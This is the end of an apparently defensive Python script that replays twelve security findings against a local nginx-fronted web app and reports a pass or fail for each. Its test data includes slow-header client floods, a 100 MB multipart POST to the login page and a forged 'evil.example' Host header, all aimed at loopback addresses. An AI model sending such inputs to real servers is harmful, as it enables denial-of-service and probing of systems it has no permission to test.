    dribbler.start()
    time.sleep(2)
    times = []
    for _ in range(5):
        start = time.perf_counter()
        status, _, body = nginx.request("GET", "/healthz", source="127.0.0.6")
        times.append(time.perf_counter() - start)
        expect(
            status == 200 and json.loads(body)["status"] == "ok",
            f"/healthz {status} under slow clients",
        )
    page_start = time.perf_counter()
    page_status = nginx.request("GET", "/", source="127.0.0.6")[0]
    page_time = time.perf_counter() - page_start
    expect(page_status == 200, f"/ answered {page_status} under slow clients")
    # 100 MB multipart to the log-in page.
    sock = nginx.tls_socket(source="127.0.0.7")
    try:
        sock.sendall(
            b"POST /admin/login/?huge=1 HTTP/1.1\r\n"
            + f"Host: {HOST}\r\n".encode()
            + b"Content-Type: multipart/form-data; boundary=b\r\n"
            + f"Content-Length: {100 * 1024 * 1024}\r\n\r\n".encode()
            + b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n'
            + b"x" * 4096
        )
        answer = b""
        while b"\r\n" not in answer:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
        huge_status = int(answer.split(b" ", 2)[1])
    finally:
        sock.close()
    expect(huge_status == 413, f"the 100 MB post answered {huge_status}")
    # nginx closes the slow clients after client_header_timeout (10 s from their first byte).
    stop.wait(max(0.0, dribbling_since + 12 - time.monotonic()))
    stop.set()
    dribbler.join()
    for n, sock in enumerate(sockets):
        sock.settimeout(0.2)
        try:
            sock.recv(1024)  # b"" (closed) or an error answer: either way nginx let it go
            closed.add(n)
        except TimeoutError:
            pass
        except OSError:
            closed.add(n)
        sock.close()
    app_log = world.fronted.log_path.read_text()
    expect(
        "slow=" not in app_log and "huge=1" not in app_log, "a slow or huge request reached the app"
    )
    return (
        f"{slow} clients dribbling headers a byte a second (2 workers): /healthz 200 in "
        f"{max(times) * 1000:.0f} ms at worst (5 tries), / 200 in {page_time * 1000:.0f} ms; "
        f"nginx closed {len(closed)}/{slow} of them by the 10 s header timeout; a 100 MB "
        f"multipart POST to /admin/login/ -> {huge_status} after the first 4 KB; none reached the app"
    )


def extra_unknown_host(world: World) -> str:
    """An unknown Host header logged a traceback."""
    log_path = world.direct.log_path
    before = log_path.read_text()
    status, _, _ = raw(world.direct.port, "GET", "/?unknown-host=1", {"Host": "evil.example"})
    time.sleep(0.5)
    added = log_path.read_text()[len(before) :]
    lines = [line for line in added.splitlines() if "evil.example" in line or "Traceback" in line]
    expect(status == 400, f"unknown Host answered {status}")
    expect("Traceback" not in added, "the app logged a traceback")
    return f"Host: evil.example -> {status}; the app logged {len(lines)} line(s) naming it, no traceback"


#: Every finding of the issue, by number, and its replay.
FINDINGS = [
    (1, "Anyone can lock every editor out", finding_1_lockout),
    (2, "Deadlock on saving a milestone and one of its claims", finding_2_deadlock),
    (3, "Every Revert in history was a 500", finding_3_revert),
    (4, "The stale-edit check could be skipped", finding_4_stale_check),
    (5, "Import could not reach its limits", finding_5_import),
    (6, "Redis down = site down; /healthz healthy when not", finding_6_redis_down),
    (7, "CSV formula injection in exports", finding_7_csv),
    (8, "Atom feeds served editor text as HTML", finding_8_feeds),
    (9, "A NUL byte in an API path was a 500", finding_9_nul),
    (10, "HEAD answered 405", finding_10_head),
    (11, "Backups not a full round trip; tampered files restored", finding_11_backups),
    (12, "Slow clients starved the workers; 100 MB log-in POST accepted", finding_12_slow_clients),
]
EXTRAS = [("+", "Unknown Host logged a traceback", extra_unknown_host)]


def replay(world: World, number, name: str, function) -> bool:
    log(f"#{number} {name}: replaying")
    start = time.perf_counter()
    try:
        text, ok = function(world), True
    except Failed as failure:
        text, ok = str(failure), False
    except Exception as error:  # noqa: BLE001 - a fault of the replay is a failure too
        text, ok = f"{type(error).__name__}: {error}", False
        log(traceback.format_exc())
    log(f"  ({time.perf_counter() - start:.1f} s)")
    print(f"#{number} {name}: {'PASS' if ok else 'FAIL'} — {text}", flush=True)
    return ok


def arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--admin-url", default="postgres://postgres@127.0.0.1:5432/postgres")
    parser.add_argument("--database", default="ssb_replay")
    parser.add_argument("--redis-url", default="redis://127.0.0.1:6379/10")
    parser.add_argument("--only", type=int, action="append", help="Replay only these findings.")
    return parser.parse_args()


def main() -> int:
    args = arguments()
    for tool in ("nginx", "openssl", "make"):
        if shutil.which(tool) is None:
            sys.exit(f"{tool} is not installed")
    started = time.perf_counter()
    world = prepare(args)
    results = []
    try:
        start_servers(world)
        chosen = [f for f in FINDINGS if not args.only or f[0] in args.only]
        for number, name, function in [*chosen, *EXTRAS]:
            results.append(replay(world, number, name, function))
    finally:
        world.stop()
        shutil.rmtree(world.folder, ignore_errors=True)
    passed = sum(results)
    print(
        f"{passed} of {len(results)} passed in {time.perf_counter() - started:.0f} s",
        flush=True,
    )
    return 0 if passed == len(results) else 1


if __name__ == "__main__":
    os.chdir(ROOT)
    sys.exit(main())
